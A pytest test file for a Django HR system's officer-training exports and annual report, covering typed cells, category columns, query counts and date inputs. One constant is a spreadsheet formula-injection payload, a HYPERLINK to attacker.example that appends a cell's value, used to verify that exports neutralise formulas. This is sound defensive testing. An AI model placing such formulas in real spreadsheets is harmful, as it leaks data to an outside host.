"""HR exports (lists and the annual report): typed cells (hours are numbers), formulas
neutralised, header frozen; the annual report counts failed exams and does not hide a
failing query; the manual hours form's date input gets an ISO value."""
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.db import DatabaseError, connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from officers import exports, hours_rules, qualifications
from officers import hours as hours_service
from officers.hr_lists import scoped_officers
from officers.models import (
    MODE_CENTRAL, MODE_SELF_STUDY, SOURCE_MANUAL, HoursCategory, HoursEntry, HoursRequirement, QualificationType,
)
from tests.factories import make_user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A2,"点我")'


@pytest.fixture
def base_type(db):
    return QualificationType.objects.create(code="BASE", name="行政执法资格", is_base=True, validity_months=12,
                                            min_hours_per_year=Decimal("60"))


@pytest.fixture
def person(units, base_type):
    officer = make_user(unit=units["SZ-JB-01"], full_name=FORMULA[:50], employee_number="EXP001",
                        training_tier="inservice").officer
    HoursEntry.objects.create(officer=officer, hours=Decimal("40.0"), source=SOURCE_MANUAL, description="培训",
                              date=timezone.localdate())
    qualifications.grant(officer, base_type, reason="测试")
    qualifications.evaluate(officer)
    return officer


def sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def row_of(ws, employee_number):
    return next(r for r in ws.iter_rows(min_row=2) if r[0].value == employee_number)


def test_hr_list_xlsx_has_numeric_hours_frozen_header_and_no_formula(client, hr_user, person):
    client.force_login(hr_user)
    ws = sheet(client.get("/hr/lists/all/export.xlsx"))
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, row_of(ws, "EXP001"))}
    hours = row["本年学时"]
    assert hours.data_type == "n" and hours.value == 40 and hours.number_format == "0.0"
    assert row["姓名"].data_type == "s" and row["姓名"].value == FORMULA[:50]
    assert row["取得日期"].is_date and row["取得日期"].value.date() == timezone.localdate()
    assert row["培训层级"].value == "岗位培训"
    assert ws.freeze_panes == "A2" and ws[1][0].font.b
    assert ws.column_dimensions["C"].width >= 10  # the unit's name fits


def test_hr_list_csv_neutralises_formulas_and_keeps_numbers(client, hr_user, person):
    client.force_login(hr_user)
    text = b"".join(client.get("/hr/lists/all/export.csv").streaming_content).decode("utf-8-sig")
    line = next(line for line in text.splitlines() if line.startswith("EXP001"))
    assert ",'=HYPERLINK(" in line.replace('"', "")
    assert ",40.0," in line


def test_annual_report_counts_failed_exams_and_hours_as_numbers(client, hr_user, person, base_type):
    from exams.models import Exam, Sitting

    exam = Exam.objects.create(title="年度考试", kind="annual")
    now = timezone.now()
    for attempt, passed in ((1, False), (2, False), (3, True)):
        Sitting.objects.create(exam=exam, officer=person, attempt=attempt, status="graded", passed=passed,
                               percent=40, started_at=now, ended_at=now, released_at=now)
    Sitting.objects.create(exam=exam, officer=person, attempt=4, status="graded", passed=False, percent=40,
                           started_at=now, ended_at=now - datetime.timedelta(days=800),
                           released_at=now)  # another year
    year = timezone.localdate().year
    rows = exports.report_rows(scoped_officers(hr_user, ""), base_type, year)
    titles = exports.header_titles(exports.report_header(year, base_type))
    mine = dict(zip(titles, next(r for r in rows if r[0] == "EXP001")))
    assert mine["考试未通过"] == 2  # the two failed sittings of the year
    client.force_login(hr_user)
    r = client.get(reverse("officers:hr_report"), {"format": "xlsx", "year": year})
    ws = sheet(r)
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, row_of(ws, "EXP001"))}
    assert row[f"{year} 年学时"].data_type == "n" and row[f"{year} 年学时"].value == 40
    assert row["要求学时"].data_type == "n" and row["要求学时"].value == 60
    assert row["考试未通过"].value == 2
    assert ws.freeze_panes == "A2"
    page = client.get(reverse("officers:hr_report"), {"year": year}).content.decode()
    cells = re.findall(r"<td>(.*?)</td>", re.search(r"<tr><td>EXP001</td>.*?</tr>", page, re.S).group(0))
    shown = dict(zip(header, cells))
    assert (shown[f"{year} 年学时"], shown["要求学时"], shown["考试通过"], shown["考试未通过"]) == ("40", "60", "0", "2")


@pytest.fixture
def categorised(units, base_type):
    """A type asking 20 学时 of 公共法律知识 and one 集中培训 a year; an officer with 12 of
    公共法律知识 (自学) and 6.5 of 执法技能 (集中培训) this year, and 30 of 业务知识 last year."""
    QualificationType.objects.filter(pk=base_type.pk).update(central_training_required=True)
    base_type.refresh_from_db()
    cats = {c.code: c for c in HoursCategory.objects.all()}
    HoursRequirement.objects.create(qualification_type=base_type, category=cats["public_law"],
                                    min_hours=Decimal("20"))
    officer = make_user(unit=units["SZ-JB-01"], employee_number="CAT001").officer
    today = timezone.localdate()
    for key, hours, code, mode, day in (
            ("a", "12", "public_law", MODE_SELF_STUDY, today), ("b", "6.5", "skills", MODE_CENTRAL, today),
            ("c", "30", "business", MODE_CENTRAL, datetime.date(today.year - 1, 6, 1))):
        hours_service.credit(officer, Decimal(hours), source=SOURCE_MANUAL, source_key=f"cat:{key}",
                             description="培训", category=cats[code], mode=mode, date=day)
    return officer


def test_annual_report_has_a_column_per_hours_category_and_the_central_training_rule(
        client, hr_user, base_type, categorised):
    year = timezone.localdate().year
    client.force_login(hr_user)
    ws = sheet(client.get(reverse("officers:hr_report"), {"format": "xlsx", "year": year}))
    header = [c.value for c in ws[1]]
    assert header[4:11] == [f"{year} 年学时", "要求学时", "公共法律知识学时（要求 20）", "业务知识学时", "执法技能学时",
                            "集中培训学时", "集中培训（每年至少一次）"]
    row = {h: c.value for h, c in zip(header, row_of(ws, "CAT001"))}
    assert (row[f"{year} 年学时"], row["公共法律知识学时（要求 20）"], row["业务知识学时"], row["执法技能学时"],
            row["集中培训学时"], row["集中培训（每年至少一次）"]) == (18.5, 12, 0, 6.5, 6.5, "已参加")
    # last year: only 业务知识 of 集中培训
    ws = sheet(client.get(reverse("officers:hr_report"), {"format": "xlsx", "year": year - 1}))
    row = {h: c.value for h, c in zip(header, row_of(ws, "CAT001"))}
    assert (row["业务知识学时"], row["集中培训学时"], row["集中培训（每年至少一次）"]) == (30, 30, "已参加")


def test_annual_report_central_training_status_follows_the_hours_rules(hr_user, base_type, categorised):
    """未参加 exactly when hours_rules reports the 集中培训 gap; 不要求 when the type does not ask."""
    year = timezone.localdate().year
    other = make_user(unit=categorised.unit, employee_number="CAT002").officer
    titles = exports.header_titles(exports.report_header(year, base_type))

    def status(officer_id):
        rows = exports.report_rows(scoped_officers(hr_user, ""), base_type, year)
        return {r[0]: dict(zip(titles, r))["集中培训（每年至少一次）"] for r in rows}[officer_id]

    ledger = hours_rules.load_ledgers([other.pk], year, 1)[other.pk]
    assert hours_rules.GAP_CENTRAL in [g.code for g in hours_rules.yearly_gaps(base_type, [], ledger, year)]
    assert (status("CAT001"), status("CAT002")) == ("已参加", "未参加")
    QualificationType.objects.filter(pk=base_type.pk).update(central_training_required=False)
    base_type.refresh_from_db()
    assert status("CAT002") == "不要求"


def test_renamed_hours_category_heads_its_report_column(client, hr_user, base_type, categorised):
    HoursCategory.objects.filter(code="skills").update(name="现场执法技能")
    client.force_login(hr_user)
    body = client.get(reverse("officers:hr_report")).content.decode()
    assert "<th>现场执法技能学时</th>" in body and "<th>公共法律知识学时（要求 20）</th>" in body
    pdf = client.get(reverse("officers:hr_report"), {"format": "pdf"})
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")


def test_annual_report_queries_do_not_grow_with_officers_or_categories(hr_user, units, base_type, categorised):
    """The per-category hours come from the one ledger read per chunk of officers, not a query per
    officer and category."""
    year = timezone.localdate().year
    categories = list(HoursCategory.objects.all())

    def queries():
        with CaptureQueriesContext(connection) as ctx:
            rows = exports.report_rows(scoped_officers(hr_user, ""), base_type, year, categories)
        return len(rows), len(ctx.captured_queries)

    queries()  # what a process reads once
    n_few, few = queries()
    for i in range(6):
        officer = make_user(unit=units["SZ-JB-01"], employee_number=f"CATN{i}").officer
        for category in categories:
            hours_service.credit(officer, Decimal("1"), source=SOURCE_MANUAL, source_key=f"catn:{i}:{category.code}",
                                 description="培训", category=category, mode=MODE_CENTRAL, date=timezone.localdate())
    n_many, many = queries()
    assert n_many == n_few + 6 and len(categories) >= 3
    assert many == few


@pytest.mark.parametrize("year", ["0", "-1", "10000", "99999999999999999999", "abc", "2025年", "²"])
@pytest.mark.parametrize("fmt", ["", "xlsx"])
def test_annual_report_of_an_impossible_year_is_this_years(client, hr_user, person, year, fmt):
    client.force_login(hr_user)
    r = client.get(reverse("officers:hr_report"), {"year": year, "format": fmt})
    assert r.status_code == 200
    this_year = timezone.localdate().year
    if fmt:
        assert sheet(r).title == str(this_year)
    else:
        assert r.context["year"] == this_year


def test_annual_report_does_not_hide_a_failing_query(hr_user, person, base_type, monkeypatch):
    """A database error while counting failed exams is an error, not "0 failed"."""
    from exams.models import Sitting

    def broken(*args, **kwargs):
        raise DatabaseError("no such table: exams_sitting")

    monkeypatch.setattr(Sitting.objects, "filter", broken)
    with pytest.raises(DatabaseError):
        exports.report_rows(scoped_officers(hr_user, ""), base_type, timezone.localdate().year)


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_manual_hours_date_input_has_an_iso_value(client, hr_user, officer_user, language):
    client.cookies["django_language"] = language
    client.force_login(hr_user)
    officer = officer_user.officer
    body = client.get(officer.get_absolute_url(), HTTP_ACCEPT_LANGUAGE=language).content.decode()
    today = timezone.localdate()
    assert f'type="date" name="date" value="{today.isoformat()}"' in body
    assert today.strftime("%Y/%m/%d") not in body
    r = client.post(reverse("officers:hours_add", args=[officer.pk]),
                    {"hours": "2", "date": "2026-03-05", "reason": "线下培训"})
    assert r.status_code == 302
    assert officer.hours.get(reason="线下培训").date == datetime.date(2026, 3, 5)


def test_course_assignment_due_date_input_has_an_iso_value(hr_user):
    from courses.forms import AssignmentForm

    form = AssignmentForm(user=hr_user, initial={"due_date": datetime.date(2026, 12, 6)})
    assert 'value="2026-12-06"' in str(form["due_date"])
